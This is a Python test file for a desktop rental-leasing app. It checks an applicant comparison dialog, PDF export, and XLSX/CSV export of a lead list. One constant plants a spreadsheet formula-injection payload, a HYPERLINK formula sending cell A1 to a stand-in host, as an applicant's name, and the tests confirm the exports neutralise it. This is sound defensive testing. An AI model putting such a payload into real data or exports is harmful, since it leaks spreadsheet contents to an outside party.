"""Compare applicants for one unit (real widgets, offscreen): the table model under qtmodeltester,
the entry from the lead list (2-4 selected, one selected = the others for its unit, mixed units
refused), Export PDF, the lead list as XLSX/CSV, and Open / Show in folder after saving."""

from __future__ import annotations

from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import pytest
from pypdf import PdfReader
from python_calamine import CalamineWorkbook

from leaselab_desktop import platforms
from leaselab_desktop.config import Paths, Settings
from leaselab_desktop.domain.models import Factor, Lead, Signal
from leaselab_desktop.gui import exports
from leaselab_desktop.gui.compare.dialog import CompareDialog
from leaselab_desktop.gui.compare.model import ComparisonModel
from leaselab_desktop.gui.errors import ErrorReporter
from leaselab_desktop.gui.main_window import MainWindow
from leaselab_desktop.gui.qt import QtCore, QtWidgets
from leaselab_desktop.gui.tasks import TaskRunner
from leaselab_desktop.reports.comparison import Applicant, compare_applicants
from leaselab_desktop.secrets import SecretStore
from tests.gui.fakes import T0, FakeBackend, sample_evaluation

HOSTILE = '=HYPERLINK("http://x.example/?"&A1,"Click")'


def _seed_unit(fake: FakeBackend) -> None:
    """Three applicants for Maple Court 1A: Ada (evaluated, 72), Chidi (evaluated, 58), and a
    hostile name without an evaluation."""
    ada = fake.leads["lead_1"]
    fake.leads["lead_9"] = ada.model_copy(update={"id": "lead_9", "first_name": "Chidi", "last_name": "Nwosu",
                                                  "email": "chidi@example.com", "ai_score": 58, "ai_label": "C",
                                                  "monthly_income": 4300.0})
    ev = sample_evaluation("lead_9", 58)
    ev.factors[0] = Factor(code="income_verification", points=12, max_points=30,
                           explanation="Rent is 43 % of verified income. Only one pay stub.")
    ev.signals.append(Signal(code="editing_software", severity="high", document="stub.pdf"))
    fake.evaluations["lead_9"] = [ev]
    fake.leads["lead_10"] = Lead(id="lead_10", property_id="prop_1", unit_id="unit_1a", first_name=HOSTILE,
                                 last_name="Doe", email="evil@example.com", property_name="Maple Court",
                                 unit_name="1A", monthly_income=-1.0, monthly_rent=1850.0, updated_at=T0)


def comparison_of(fake: FakeBackend, *ids: str) -> Any:
    return compare_applicants([Applicant(fake.leads[i], (fake.evaluations.get(i) or [None])[-1]) for i in ids])


class Shell:
    def __init__(self, window: MainWindow, fake: FakeBackend) -> None:
        self.window, self.fake = window, fake


@pytest.fixture
async def shell(paths: Paths, until: Any) -> AsyncIterator[Shell]:
    fake = FakeBackend()
    _seed_unit(fake)
    tasks = TaskRunner()

    async def opener(p: Paths, s: Settings, profile: str, secrets: SecretStore) -> FakeBackend:
        return fake

    window = MainWindow(paths, Settings(), SecretStore(), tasks, ErrorReporter(), opener=opener, use_tray=False)
    window.show()
    await window.open_backend()
    await until(lambda: window.lead_list.model.total == len(fake.leads))
    yield Shell(window, fake)
    for d in list(window.compare.dialogs):
        d.close()
    await window.shutdown()
    assert tasks.pending == 0
    window.close()


def _select(window: MainWindow, *ids: str) -> None:
    table = window.lead_list.table
    sel = table.selectionModel()
    sel.clearSelection()
    flags = QtCore.QItemSelectionModel.SelectionFlag
    for lead_id in ids:
        row = window.lead_list.model.view_row_of(lead_id)
        assert row is not None
        sel.select(window.lead_list.model.index(row, 0), flags.Select | flags.Rows)


def test_the_table_model_passes_qtmodeltester(qtmodeltester: Any) -> None:
    fake = FakeBackend()
    _seed_unit(fake)
    model = ComparisonModel()
    model.set_comparison(comparison_of(fake, "lead_1", "lead_9", "lead_10"))
    qtmodeltester.check(model, force_py=True)
    assert model.columnCount() == 4
    titles = [model.data(model.index(r, 0)) for r in range(model.rowCount())]
    assert "Factors" in titles and "Document signals" in titles
    row = next(r for r, t in enumerate(titles) if t.endswith("Income verification"))
    assert titles[row].startswith("≠")
    tip = model.data(model.index(row, 0), QtCore.Qt.ItemDataRole.ToolTipRole)
    assert tip.startswith("Ada Okafor gets 12 more points than Chidi Nwosu") and "Doe was not scored" in tip
    acc = model.data(model.index(row, 1), QtCore.Qt.ItemDataRole.AccessibleTextRole)
    assert acc == "Ada Okafor, Income verification: 24 / 30"
    model.set_comparison(None)
    qtmodeltester.check(model, force_py=True)


async def test_compare_two_selected_then_export_pdf_and_open_it(
    shell: Shell, until: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
) -> None:
    opened: list[Path] = []
    shown: list[Path] = []
    monkeypatch.setattr(platforms, "open_externally", lambda p: opened.append(Path(p)))
    monkeypatch.setattr(platforms, "show_in_folder", lambda p: shown.append(Path(p)))
    w = shell.window
    _select(w, "lead_1", "lead_9")
    action = w.compare.compare_action
    assert action.isEnabled() and action.shortcut().toString() == "Ctrl+Shift+C"
    assert action in w.lead_list.table.actions()  # the lead table's context menu
    detail = w.workspace.findChild(QtWidgets.QWidget, "leadDetail")
    assert action in detail.actions()  # and the lead detail's, in the workspace
    action.trigger()
    dialog = await until(lambda: next(iter(w.compare.dialogs), None))
    assert isinstance(dialog, CompareDialog)
    await until(lambda: dialog.comparison is not None)
    assert dialog.comparison.names == ("Ada Okafor", "Chidi Nwosu")
    assert "Maple Court · 1A" in dialog.heading.text()
    why = [dialog.why.item(i).text() for i in range(dialog.why.count())]
    assert any(t.startswith("Income verification: Ada Okafor gets 12 more points") for t in why)
    for widget in dialog.findChildren(QtWidgets.QWidget):
        if widget.objectName().startswith("compare") and widget.isVisible():
            assert widget.accessibleName(), widget.objectName()
    # selecting a differing row picks its sentence
    row = next(r for r in range(dialog.model.rowCount())
               if getattr(dialog.model.item(r), "code", "") == "income_verification")
    dialog.table.setCurrentIndex(dialog.model.index(row, 0))
    assert dialog.why.currentItem().text().startswith("Income verification")

    out = await dialog.export_to(tmp_path / "cmp.pdf")
    assert out is not None and out.exists()
    text = " ".join(" ".join(p.extract_text().split()) for p in PdfReader(out).pages)
    assert "Ada Okafor" in text and "Chidi Nwosu" in text and "Page 1 of" in text
    saved = dialog.saved
    assert saved is not None and saved.isVisible() and saved.path == out
    saved.folder_button.click()  # done: the box closes itself
    assert shown == [out]
    dialog.saved = exports.offer_open(dialog, out, "Comparison")
    dialog.saved.open_button.click()
    assert opened == [out]


async def test_mixed_units_are_refused_with_a_clear_message(shell: Shell, until: Any) -> None:
    w = shell.window
    _select(w, "lead_1", "lead_2")
    w.compare.compare_action.trigger()
    box = await until(lambda: w.compare.notice)
    assert "different units (Harbour View · H1 and Maple Court · 1A)" in box.text() and box.accessibleName()
    assert not w.compare.dialogs
    box.close()


async def test_one_selected_compares_the_other_applicants_for_its_unit(shell: Shell, until: Any) -> None:
    w = shell.window
    _select(w, "lead_9")
    assert "other applicants for this unit" in w.compare.compare_action.text()
    w.compare.compare_action.trigger()
    dialog = await until(lambda: next(iter(w.compare.dialogs), None))
    await until(lambda: dialog.comparison is not None)
    assert set(dialog.comparison.names) == {"Ada Okafor", "Chidi Nwosu", f"{HOSTILE} Doe"}
    assert dialog.comparison.names[0] == "Chidi Nwosu"


async def test_a_lead_alone_on_its_unit_says_so(shell: Shell, until: Any) -> None:
    w = shell.window
    _select(w, "lead_2")
    w.compare.compare_action.trigger()
    dialog = await until(lambda: next(iter(w.compare.dialogs), None))
    await until(lambda: "cannot be compared" in dialog.heading.text())
    assert "No other active applicant" in dialog.heading.text() and not dialog.export_button.isEnabled()


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
async def test_export_the_lead_list_as_shown(shell: Shell, until: Any, tmp_path: Path, fmt: str) -> None:
    w = shell.window
    w.lead_list.search_box.setText("example.com")  # a filter: what is shown is what is saved
    await until(lambda: w.lead_list.model.rowCount() == len(shell.fake.leads))
    out = await w.compare.export_to(tmp_path / "leads", fmt)
    assert out is not None and out.suffix == "." + fmt
    if fmt == "xlsx":
        rows = CalamineWorkbook.from_path(str(out)).get_sheet_by_index(0).to_python()
        assert rows[0][:3] == ["Lead id", "Name", "Email"]
        names = {r[0]: r[1] for r in rows[1:]}
        assert names["lead_10"] == f"{HOSTILE} Doe"  # text, not a formula
        assert rows[1][0] == w.lead_list.model.lead_id(0)  # the list's order
    else:
        assert f"'{HOSTILE} Doe" in out.read_text(encoding="utf-8-sig").replace('""', '"')
    assert w.compare.saved is not None and w.compare.saved.isVisible()
    assert w.compare.saved.open_button.accessibleName() == f"Open {out.name}"
    w.compare.saved.close()


async def test_export_menu_and_shortcut(shell: Shell) -> None:
    w = shell.window
    assert w.compare.export_action.shortcut().toString() == "Ctrl+E"
    file_menu = next(a.menu() for a in w.menuBar().actions() if a.text() == "&File")
    assert w.compare.export_action in file_menu.actions()
    dlg = w.compare.export_list()
    assert dlg.objectName() == "exportListDialog"
    assert Path(dlg.directory().absolutePath()) == exports.default_folder()
    assert dlg.nameFilters()[0].startswith("Excel workbook")
    dlg.reject()


def test_saved_dialog_says_why_when_opening_fails(qtbot: Any, tmp_path: Path) -> None:
    f = tmp_path / "report.pdf"
    f.write_bytes(b"%PDF-1.4\n")

    def no_viewer(_p: Path) -> None:
        raise OSError("xdg-open is not installed")

    box = exports.SavedDialog(f, "Compliance report", opener=no_viewer, shower=platforms.show_in_folder)
    qtbot.addWidget(box)
    box.show()
    box.open_button.click()
    assert box.isVisible() and "Nothing on this computer could open it" in box.where.text()
    f.unlink()
    box.folder_button.click()
    assert box.isVisible() and "no longer there" in box.where.text()
    for b in (box.open_button, box.folder_button, box.close_button):
        assert b.accessibleName()


def test_default_folder_is_never_the_working_directory(qtbot: Any) -> None:
    folder = exports.default_folder()
    assert folder.is_absolute() and folder.is_dir()


async def test_screenshots_of_the_comparison(shell: Shell, tmp_path: Path) -> None:
    from leaselab_desktop.gui.compare.screenshots import render_compare_states

    shots = await render_compare_states(shell.window, tmp_path)
    assert [p.name for p in shots] == ["20-compare-mixed-units.png", "21-compare-1600x1000.png",
                                       "22-compare-1024x700.png", "23-export-saved-open.png"]
    from leaselab_desktop.gui.qt import QtGui

    big, small = (QtGui.QImage(str(p)) for p in shots[1:3])
    assert (big.width(), big.height()) == (1600, 1000) and (small.width(), small.height()) == (1024, 700)
    assert shell.fake.evaluations.get("lead_10")  # the unevaluated applicant was evaluated for real
    assert not shell.window.compare.dialogs


async def test_a_compliance_report_export_offers_open_and_show_in_folder(shell: Shell, tmp_path: Path) -> None:
    card = shell.window.workspace.findChild(QtWidgets.QWidget, "resultCard")
    assert card is not None
    report = tmp_path / "compliance-ada.pdf"
    report.write_bytes(b"%PDF-1.4\n%%EOF\n")
    card.exported.emit(report)
    saved = shell.window.compare.saved
    assert saved is not None and saved.isVisible() and saved.windowTitle() == "Compliance report saved"
    assert saved.path == report and str(tmp_path) in saved.where.text()
    saved.close()


def test_the_window_reads_in_order_with_the_keyboard(qtbot: Any, tasks: TaskRunner) -> None:
    fake = FakeBackend()
    _seed_unit(fake)
    dialog = CompareDialog(tasks)
    qtbot.addWidget(dialog)
    dialog.show_comparison(comparison_of(fake, "lead_1", "lead_9"))
    dialog.show()
    order, w = [], dialog.table
    for _ in range(4):
        order.append(w.objectName())
        w = w.nextInFocusChain()
        while not (w.focusPolicy() & QtCore.Qt.FocusPolicy.TabFocus) or not w.isVisible():
            w = w.nextInFocusChain()
    assert order == ["compareTable", "compareWhy", "compareExportButton", "compareCloseButton"]
    assert dialog.export_button.isEnabled() and dialog.windowTitle() == "Compare applicants — Maple Court · 1A"


async def test_a_backend_that_goes_down_is_said_in_the_window(shell: Shell, until: Any) -> None:
    w = shell.window
    _select(w, "lead_1", "lead_9")
    shell.fake.down = True
    w.compare.compare_action.trigger()
    dialog = await until(lambda: next(iter(w.compare.dialogs), None))
    await until(lambda: "could not be loaded" in dialog.heading.text())
    assert "cannot be reached" in dialog.heading.text() and not dialog.export_button.isEnabled()
    shell.fake.down = False
